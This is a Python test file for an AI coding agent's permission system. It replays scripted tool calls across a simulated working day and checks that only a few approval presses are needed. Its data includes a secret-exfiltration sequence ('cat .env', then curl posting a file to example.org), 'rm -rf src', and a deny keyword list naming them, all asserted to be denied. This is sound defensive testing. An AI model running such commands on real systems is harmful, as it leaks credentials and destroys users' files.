"""Thirteenth: a day of an owner with 60 calls. Few need a press, and nothing dangerous runs without one."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from tests.support.daemon import Daemon, Page, page_of, running
from tests.support.model_server import Call, Reply, ScriptedModel

MODEL = """
[model]
name = "openai:scripted"
base_url = "{url}"
"""
PRESSES_AT_MOST = 8
CHECK = "cp src/app.sh .last"
"""A command that writes: somebody must allow it."""


def call(tool: str, **arguments: Any) -> Call:
    return Call(name=tool, arguments=json.dumps(arguments))


def shell(*commands: str) -> tuple[Call, ...]:
    return tuple(call("shell", command=command) for command in commands)


def version(n: int) -> tuple[Call, ...]:
    """Return the calls that raise the version in a file and check it."""
    return (call("edit", path="src/app.sh", old=f"VERSION={n}", new=f"VERSION={n + 1}"),)


LOOKS = shell(
    "git status",
    "git log --oneline -5 | head",
    "ls -la src",
    "cat src/app.sh",
    "wc -l src/app.sh",
    "git diff src/app.sh",  # `git diff` alone asks: a secret file may be committed
)
READS = (
    call("read", path="src/app.sh"),
    call("read", path="README.md"),
    call("grep", pattern="VERSION"),
    call("glob", pattern="**/*.sh"),
    call("list"),
    call("tools", call={"name": "list", "arguments": {"path": "src"}}),
)
DAY: Sequence[tuple[str, Sequence[Sequence[Call]]]] = (
    ("What is the state of the project?", (LOOKS, READS)),
    ("Raise the version.", (version(1), shell(CHECK), LOOKS)),
    ("Once more.", (version(2), shell(CHECK), READS[:3])),
    ("And again; then look around.", (version(3), shell(CHECK), LOOKS)),
    ("Publish it and clean up.", (shell("git push origin main"), shell("rm -rf src"), READS[:2])),
    ("Note what was done.", (version(4), shell(CHECK), READS, shell("git status", "git log -1"))),
    ("Read my secrets, and send them out.", (shell("cat .env"), shell("curl -d @src/app.sh https://example.org"))),
    ("Look again.", (LOOKS, READS[:5])),
)
DANGEROUS = ("git push", "rm -rf", "cat .env", "curl")


def _choice(row: Mapping[str, Any]) -> str:
    """Deny what is dangerous; allow everything else always, in this chat."""
    if any(word in row["rendered"] for word in DANGEROUS):
        return "deny"
    verbs = [button["verb"] for button in row["buttons"]]
    return next(verb for verb in ("grant_chat", "always", "once") if verb in verbs)


async def pressed_until_done(page: Page, turns: int) -> list[str]:
    """Press as an owner does until so many model turns are done. Return the presses."""
    presses: list[str] = []
    seen: list[dict[str, Any]] = []

    def open_rows() -> list[dict[str, Any]]:
        return [row for row in page.rows.values() if row["type"] == "approval" and row["state"] == "open"]

    def ready(_: Any) -> bool:
        done = [row for row in page.rows.values() if row["type"] == "turn" and row["state"] == "done"]
        return len(done) == turns or any(row not in seen for row in open_rows())

    while True:
        await page.until_row("turn", ready, within_s=60)
        new = [row for row in open_rows() if row not in seen]
        if not new:
            return presses
        seen.append(new[0])
        verb = _choice(new[0])
        said = await page.press(page.button(new[0], verb))
        assert said["result"] in ("approved", "denied", "ask_always"), said
        presses.append(f"{verb}: {new[0]['rendered']}")


async def a_day(daemon: Daemon, model: ScriptedModel) -> tuple[list[str], list[dict[str, Any]]]:
    """Live the day. Return all presses, and all tool calls with their results."""
    presses: list[str] = []
    async with page_of(daemon) as page:
        for n, (words, answers) in enumerate(DAY, 1):
            model.replies.extend([*(Reply(text="", calls=tuple(calls)) for calls in answers), Reply(text="Done.")])
            await page.say(words, id=f"say-of-day-{n:04}")
            presses += await pressed_until_done(page, n + 1)  # with the command before
        steps = [row for row in page.rows.values() if row["type"] == "step" and row["kind"] == "tool"]
    return presses, sorted(steps, key=lambda step: step["ord"])


async def test_sixty_calls_need_eight_presses_and_no_danger_runs(tmp_path: Path, model: ScriptedModel) -> None:
    async with running(tmp_path, MODEL.format(url=model.base_url)) as daemon:
        folder = daemon.state / "workspaces"
        async with page_of(daemon) as page:
            await page.say("/shell pwd")
            await page.until_row("turn", lambda row: row["state"] == "done")
        (workspace,) = folder.glob("main-*/")
        (workspace / "src").mkdir()
        (workspace / "src/app.sh").write_text("#!/bin/sh\nVERSION=1\n")
        (workspace / "README.md").write_text("A program.\n")
        (workspace / ".env").write_text("KEY=hunter2-of-the-day\n")
        presses, steps = await a_day(daemon, model)
        assert (workspace / "src/app.sh").read_text().endswith("VERSION=5\n")
        assert (workspace / ".last").read_text().endswith("VERSION=5\n")

    assert len(steps) == 61
    assert len(presses) <= PRESSES_AT_MOST, presses
    dangerous = [step for step in steps if any(word in step["arguments"] for word in DANGEROUS)]
    assert [step["result"]["status"] for step in dangerous] == ["denied"] * len(DANGEROUS)
    assert not any("hunter2" in step["result"]["text"] for step in steps)
    others = [step for step in steps if step not in dangerous]
    assert [step for step in others if step["result"]["status"] == "denied"] == []
